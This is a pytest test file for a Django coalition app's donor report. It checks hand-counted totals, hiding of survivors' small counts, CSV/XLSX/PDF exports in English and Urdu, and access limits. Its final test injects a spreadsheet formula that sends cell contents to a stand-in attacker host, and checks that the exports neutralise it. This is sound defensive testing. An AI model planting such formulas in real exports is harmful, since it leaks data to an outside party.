"""The donor report on a hand-counted fixture: activities and people reached by province,
quarter, type, topic and participant group, survivors' small counts hidden, with the case
figures of the same period beside them, exported as CSV, XLSX and PDF in English and Urdu."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from pypdf import PdfReader

from coalition.activities.donor import build_donor_report, quarter_period
from coalition.models import AccessLog
from coalition.reports.models import StoredReport
from coalition.reports.scope import Period
from tests.pdfs import glyph_problems

from .conftest import record_walk

Q3 = {"year": "2026", "quarter": "3"}


@pytest.fixture
def k5(settings):
    settings.SMALL_CELL_THRESHOLD = 5


@pytest.fixture
def fixture_q3(supervisor_a, supervisor_b, k5):
    """Three activities in 2026 Q3 and one in Q2. Hand counts (Q3):
    A1 walk, Punjab, trafficking: community F40 M35 T5, survivors F3          -> F43 M35 T5 = 83
    A2 seminar, Islamabad, trafficking+smuggling: government F6 M14,
       academia F10 M5, media M8                                               -> F16 M27 T0 = 43
    A3 dialogue, Sindh, smuggling: international F4 M6, FIA M12, police F1 M9,
       survivors F2 M1 T1                                                      -> F7 M28 T1 = 36
    Total: 3 activities, F66 M90 T6 = 162; survivors F5 M1 T1 = 7 over 2 activities."""
    record_walk(
        supervisor_a.user, title="Walk, Jhelum", starts_on=date(2026, 7, 30),
        participants={"community": {"female": 40, "male": 35, "transgender": 5},
                      "survivors": {"female": 3}},
    )  # fmt: skip
    record_walk(
        supervisor_a.user, kind="seminar", title="World Day seminar",
        starts_on=date(2026, 7, 30), province="islamabad", district="Islamabad",
        topics=["trafficking", "smuggling"],
        participants={"government": {"female": 6, "male": 14},
                      "academia": {"female": 10, "male": 5}, "media": {"male": 8}},
    )  # fmt: skip
    record_walk(
        supervisor_b.user, kind="dialogue", title="Provincial dialogue",
        starts_on=date(2026, 9, 10), province="sindh", district="Karachi", topics=["smuggling"],
        participants={"international": {"female": 4, "male": 6}, "fia": {"male": 12},
                      "police": {"female": 1, "male": 9},
                      "survivors": {"female": 2, "male": 1, "transgender": 1}},
    )  # fmt: skip
    record_walk(
        supervisor_b.user, kind="training", title="Training, Peshawar",
        starts_on=date(2026, 6, 15), province="kpk", district="Peshawar",
        participants={"community": {"female": 100}},
    )  # fmt: skip


def texts(table, row_key: str) -> dict[str, str]:
    row = table.row(row_key)
    return {column.key: table.cell(row, column).text for column in table.columns}


def test_figures_by_type_province_topic_and_quarter_match_the_hand_count(fixture_q3):
    report = build_donor_report(quarter_period(2026, 3))
    assert report.activity_count == 3
    by_kind = report.table("by_kind")
    assert texts(by_kind, "awareness_walk") == {
        "activities": "1", "female": "43", "male": "35", "transgender": "5", "total": "83"
    }  # fmt: skip
    assert texts(by_kind, "training")["activities"] == "0"  # in Q2
    assert texts(by_kind, "total") == {
        "activities": "3", "female": "66", "male": "90", "transgender": "6", "total": "162"
    }  # fmt: skip
    by_province = report.table("by_province")
    assert texts(by_province, "islamabad")["total"] == "43"
    assert texts(by_province, "sindh") == {
        "activities": "1", "female": "7", "male": "28", "transgender": "1", "total": "36"
    }  # fmt: skip
    by_topic = report.table("by_topic")
    assert texts(by_topic, "trafficking") == {
        "activities": "2", "female": "59", "male": "62", "transgender": "5", "total": "126"
    }  # fmt: skip
    assert texts(by_topic, "smuggling")["total"] == "79"
    assert [row.key for row in report.table("by_quarter").rows] == ["2026 Q3", "total"]


def test_survivors_small_counts_are_hidden_and_public_participants_are_shown(fixture_q3):
    by_group = build_donor_report(quarter_period(2026, 3)).table("by_group")
    survivors = texts(by_group, "survivors")
    assert (survivors["male"], survivors["transgender"]) == ("<5", "<5")
    assert (survivors["female"], survivors["total"], survivors["activities"]) == ("5", "7", "2")
    assert texts(by_group, "government")["female"] == "6"
    assert texts(by_group, "media")["male"] == "8"
    assert texts(by_group, "total") == {
        "activities": "3", "female": "66", "male": "90", "transgender": "6", "total": "162"
    }  # fmt: skip


def test_a_small_count_of_public_participants_is_shown_as_counted(supervisor_a, settings):
    settings.SMALL_CELL_THRESHOLD = 11
    record_walk(supervisor_a.user, participants={"police": {"female": 1, "male": 2}})
    report = build_donor_report(quarter_period(2026, 3))
    assert texts(report.table("by_group"), "police")["female"] == "1"
    assert texts(report.table("by_province"), "punjab")["total"] == "3"


def test_a_survivors_count_cannot_be_worked_out_from_another_tables_totals(supervisor_a, settings):
    """Only survivors were transgender: the transgender total is the survivors' count, so it is
    hidden in every table, with the province cell that would give it away."""
    settings.SMALL_CELL_THRESHOLD = 11
    record_walk(
        supervisor_a.user,
        participants={"community": {"female": 20, "male": 20}, "survivors": {"transgender": 2}},
    )
    report = build_donor_report(quarter_period(2026, 3))
    for table in report.tables:
        for row in table.rows:
            column = next(c for c in table.columns if c.key == "transgender")
            assert table.cell(row, column).text != "2", (table.key, row.key)


def test_the_whole_year_has_a_row_per_quarter(fixture_q3):
    period = Period(date(2026, 1, 1), date(2026, 12, 31))
    by_quarter = build_donor_report(period).table("by_quarter")
    assert [row.key for row in by_quarter.rows] == [
        "2026 Q1", "2026 Q2", "2026 Q3", "2026 Q4", "total"
    ]  # fmt: skip
    assert texts(by_quarter, "2026 Q2")["total"] == "100"


def test_a_province_report_counts_that_provinces_activities_only(fixture_q3):
    report = build_donor_report(quarter_period(2026, 3, "sindh"))
    assert report.activity_count == 1
    assert texts(report.table("by_kind"), "total")["total"] == "36"


def test_the_case_figures_of_the_same_period_sit_beside_the_activities(fixture_q3):
    report = build_donor_report(quarter_period(2026, 3))
    labels = [str(label) for label, _cell in report.case_figures]
    assert "People who reached a member" in labels


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_holds_the_figures_with_survivors_small_counts_hidden(as_user, analyst, fixture_q3):
    response = as_user(analyst).get("/activities/donor-report/export/csv/", Q3)
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    rows = csv_rows(response.content)
    assert ["Survivors", "2", "5", "<5", "<5", "7"] in rows
    assert ["Total", "3", "66", "90", "6", "162"] in rows
    assert any(row and row[0] == "Case figures of the same period" for row in rows)
    entry = AccessLog.objects.get(verb="activities.donor_report_exported")
    assert entry.details["format"] == "csv" and entry.details["period_start"] == "2026-07-01"


def test_the_xlsx_opens_with_the_figures(as_user, analyst, fixture_q3):
    response = as_user(analyst).get("/activities/donor-report/export/xlsx/", Q3)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert ["Survivors", 2, 5, "<5", "<5", 7] in values


def pdf_of(client, capture, language: str) -> bytes:
    """The quarter's PDF as the page's button asks for it: built by the report job, downloaded
    from the stored report's page."""
    with capture(execute=True):
        response = client.post("/activities/donor-report/pdf/", Q3)
    stored = StoredReport.objects.get(kind=StoredReport.Kind.DONOR)
    assert response.status_code == 302 and response["Location"] == f"/reports/stored/{stored.pk}/"
    assert stored.status == StoredReport.Status.DONE
    download = client.get(f"/reports/stored/{stored.pk}/files/pdf-{language}/")
    assert download["Content-Disposition"].endswith(f'-{language}.pdf"')
    return b"".join(download.streaming_content)


def test_the_pdf_in_urdu_embeds_the_nastaliq_font(
    as_user, analyst, fixture_q3, django_capture_on_commit_callbacks
):
    client = as_user(analyst)
    client.post("/i18n/setlang/", {"language": "ur", "next": "/activities/"})
    content = pdf_of(client, django_capture_on_commit_callbacks, "ur")
    stored = StoredReport.objects.get()
    page = client.get(f"/reports/stored/{stored.pk}/").content.decode()
    assert "<h1>منتخب مدت کی عطیہ دہندگان کی رپورٹ</h1>" in page  # its kind, in Urdu
    fonts = {
        str(font.get_object()["/BaseFont"])
        for page in PdfReader(io.BytesIO(content)).pages
        for font in page["/Resources"].get("/Font", {}).values()
    }
    assert any("Nastaliq" in font for font in fonts)
    # Its digits and "<5" drawn with glyphs the embedded fonts hold (tests/reports says how).
    assert glyph_problems(content, "0123456789<") == []


def test_the_pdf_in_english_holds_the_figures(
    as_user, analyst, fixture_q3, django_capture_on_commit_callbacks
):
    content = pdf_of(as_user(analyst), django_capture_on_commit_callbacks, "en")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    assert "Activities report for donors" in text and "162" in text


def test_the_pdf_is_made_by_the_report_job_never_in_the_request(
    as_user, analyst, fixture_q3, django_capture_on_commit_callbacks
):
    client = as_user(analyst)
    assert client.get("/activities/donor-report/export/pdf/", Q3).status_code == 404
    page = client.get("/activities/donor-report/", Q3).content.decode()
    assert 'action="/activities/donor-report/pdf/"' in page
    assert 'name="quarter" value="3"' in page  # the period shown is the one asked for
    with django_capture_on_commit_callbacks(execute=False):
        client.post("/activities/donor-report/pdf/", {**Q3, "province": "punjab"})
        client.post("/activities/donor-report/pdf/", {**Q3, "province": "punjab"})
    stored = StoredReport.objects.get()  # the second click gets the build already asked for
    assert (stored.kind, stored.organization, stored.province) == ("donor", None, "punjab")
    assert (stored.period_start, stored.period_end) == (date(2026, 7, 1), date(2026, 9, 30))
    assert stored.status == StoredReport.Status.QUEUED and stored.requested_by == analyst.user
    assert AccessLog.objects.filter(verb="report.requested", target_id=stored.pk).exists()
    page = client.get(f"/reports/stored/{stored.pk}/").content.decode()
    assert "<h1>Donor report for a chosen period</h1>" in page
    assert 'class="back" href="/activities/donor-report/"' in page


@pytest.mark.parametrize(
    ("year", "message"),
    [
        ("1999", "Check the period and the province."),  # not a year the form takes
        ("2005", "Reports cover a calendar month, quarter or year"),  # before the first
    ],
)
def test_a_period_that_is_not_a_report_period_is_refused_with_a_message(
    as_user, analyst, year, message
):
    client = as_user(analyst)
    response = client.post("/activities/donor-report/pdf/", {"year": year, "quarter": "1"})
    assert response.status_code == 302
    assert response["Location"].startswith("/activities/donor-report/?")
    page = client.get(response["Location"]).content.decode()
    assert message in page
    assert not StoredReport.objects.exists()


def test_a_refused_period_is_explained_in_urdu(as_user, analyst):
    client = as_user(analyst)
    client.post("/i18n/setlang/", {"language": "ur", "next": "/activities/"})
    response = client.post("/activities/donor-report/pdf/", {"year": "1999", "quarter": "1"})
    assert "مدت اور صوبے کی جانچ کریں" in client.get(response["Location"]).content.decode()


def test_only_the_secretariat_asks_for_the_donor_pdf(as_user, supervisor_a):
    from coalition.activities import services
    from coalition.reports import services as report_services
    from coalition.reports.scope import ReportScope

    assert as_user(supervisor_a).post("/activities/donor-report/pdf/", Q3).status_code == 403
    with pytest.raises(PermissionDenied):
        services.request_donor_pdf(by=supervisor_a.user, period=quarter_period(2026, 3))
    with pytest.raises(PermissionDenied):  # the reports' own path, for a member's scope
        report_services.request_report(
            scope=ReportScope(supervisor_a.organization),
            by=supervisor_a.user,
            period=quarter_period(2026, 3),
            kind=StoredReport.Kind.DONOR,
        )
    assert not StoredReport.objects.exists()


def test_a_member_cannot_export_the_donor_report(as_user, supervisor_a):
    assert as_user(supervisor_a).get("/activities/donor-report/export/csv/").status_code == 403


def test_the_monthly_report_carries_the_months_activities_in_every_format_and_language(
    as_user, analyst, supervisor_a, django_capture_on_commit_callbacks
):
    from coalition.reports import services as report_services

    record_walk(supervisor_a.user, starts_on=date(2026, 7, 30))
    with django_capture_on_commit_callbacks(execute=True):
        report_services.monthly_report(Period.month(2026, 7))
    stored = StoredReport.objects.get()
    assert stored.status == StoredReport.Status.DONE
    keys = {f"activities-{fmt}-{lang}" for fmt in ("csv", "xlsx", "pdf") for lang in ("en", "ur")}
    assert keys <= set(stored.files)
    client = as_user(analyst)
    page = client.get("/activities/donor-report/").content.decode()
    link = f"/reports/stored/{stored.pk}/files/activities-csv-en/"
    assert link in page
    assert "<title>Donor report · Coalition</title>" in page  # the files are not in the title
    content = b"".join(client.get(link).streaming_content).decode("utf-8-sig")
    assert "Awareness walk" in content and "2026-07-01" in content


def test_a_wrong_year_is_explained_and_the_report_shows_this_quarter(as_user, analyst):
    response = as_user(analyst).get("/activities/donor-report/", {"year": "20x6", "quarter": "3"})
    assert response.status_code == 200
    assert "Enter a whole number." in response.content.decode()


def test_no_text_in_the_exports_is_a_formula(as_user, analyst, fixture_q3, monkeypatch):
    """Every cell is a label today; were a typed text ever to reach one, it stays text."""
    from coalition.activities.donor import exports

    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rows_of = exports.table_rows
    monkeypatch.setattr(exports, "table_rows", lambda table: [*rows_of(table), [formula, 1]])
    client = as_user(analyst)
    rows = csv_rows(client.get("/activities/donor-report/export/csv/", Q3).content)
    assert ["'" + formula, "1"] in rows
    response = client.get("/activities/donor-report/export/xlsx/", Q3)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [list(row)[:2] for row in sheet.iter_rows(values_only=True)]
    assert ["'" + formula, 1] in values
